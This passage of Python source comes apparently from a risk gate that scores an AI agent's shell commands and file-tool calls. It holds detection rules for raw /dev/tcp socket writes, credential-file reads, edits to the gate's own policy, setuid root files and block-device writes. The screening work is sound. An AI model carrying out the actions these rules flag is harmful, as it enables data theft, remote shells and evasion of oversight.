        out.extend(_credentials(cmd, cmd.line in sinks, workspace))
        if prog in _INSTALLERS or prog.startswith("python"):
            out.extend(install_findings(cmd))
        if as_root:
            out.append(("medium", "runs as root", "system.as-root"))
        if "systemd-run" in cmd.wrappers:
            out.append(
                (
                    "high",
                    f"runs {prog} as a transient system service or timer (systemd-run)",
                    "system.transient-service",
                )
            )
        if prog not in SHELLS and any(op in (">", ">>", "&>") for op in sockets):
            out.append(("high", "writes to a network socket (/dev/tcp)", "network.raw-connection"))
    reasons = " ".join(f[1] for f in out)
    if " to root" in reasons and ("sets setgid" in reasons or "sets setuid" in reasons):
        out.append(("high", "makes a root-owned setuid/setgid file", "permissions.root-setuid"))
    return [f for f in out if f[0] != "low"]


def tool_path_risk(tool: str, path: str, cwd: str | None) -> list[Finding]:
    """Read, Grep, Glob, Write, Edit and NotebookEdit calls judged on the path they touch."""
    if not path:
        return []
    value = posixpath.expanduser(path) if path.startswith("~") else path
    ws = cwd if cwd and posixpath.isabs(cwd) else None
    cls = path_class(value, ws, ws)
    writes = tool in ("Write", "Edit", "MultiEdit", "NotebookEdit")
    if writes and _POLICY_FILE.search(value):
        return [("high", f"changes the risk gate's policy ({path})", "system.changes-gate-policy")]
    if CREDENTIAL_PATH.search(value.rstrip("/")):
        rule = "credentials.writes" if writes else "credentials.reads"
        return [("high", f"{'writes' if writes else 'reads'} a credential or key file ({path})", rule)]
    if not writes:
        return []
    if cls == "device":
        return [("critical", f"writes to a block device ({path})", "system.writes-block-device")]
    if _STARTUP.search(value):
        return [("high", f"changes a shell start-up file ({path})", "system.start-up-code")]
    if cls in ("system", "root"):
        return [("high", f"writes a system path ({path})", "system.writes-system-path")]
    return []


def _place(path: str, cwd: str | None) -> str:
    return posixpath.normpath(posixpath.join(cwd or "", path))


def _downloads(cmd: Cmd) -> list[tuple[str, str]]:
    """Files a curl/wget writes: ``-o FILE``, ``-O`` (the URL's name), ``> FILE``."""
    args = cmd.args
    urls = [a for a in args if re.match(r"^(?:https?|ftp)://", a)]
    url = urls[0] if urls else "the network"
    name = posixpath.basename(url.split("?", 1)[0]) if urls else ""
    out: list[tuple[str, str]] = []
    for i, a in enumerate(args):
        nxt = args[i + 1] if i + 1 < len(args) else ""
        if cmd.prog == "curl":
            if a in ("-o", "--output") or (re.match(r"^-[a-zA-Z]*o$", a) and not a.startswith("--")):
                out.append((nxt, url))
            elif a.startswith("--output="):
                out.append((a.split("=", 1)[1], url))
            elif (a in ("-O", "--remote-name") or re.match(r"^-[a-zA-Z]*O[a-zA-Z]*$", a)) and name:
                out.append((name, url))
        elif cmd.prog == "wget":
            if a in ("-O", "--output-document") or re.match(r"^-[a-zA-Z]*O$", a):
                out.append((nxt, url))
            elif a.startswith("--output-document="):
                out.append((a.split("=", 1)[1], url))
    if cmd.prog == "wget" and not out and name:
        out.append((name, url))
    out += [(w.value, url) for op, w in cmd.redirects if op in (">", ">>", "&>") and w.static]
    return [(p, u) for p, u in out if p and p != "-"]


def _runs_file(cmd: Cmd) -> str | None:
    """The file a command executes: its program path, or the script a shell or interpreter runs."""
    if not cmd.argv or not cmd.argv[0].static:
        return None
    prog = cmd.prog
    if prog in SHELLS or prog in ("source", ".") or prog in INTERPRETERS:
        script = next((w for w in cmd.argv[1:] if not w.value.startswith("-")), None)
        return script.value if script is not None and script.static else None
    first = cmd.argv[0].value
    return first if "/" in first else None
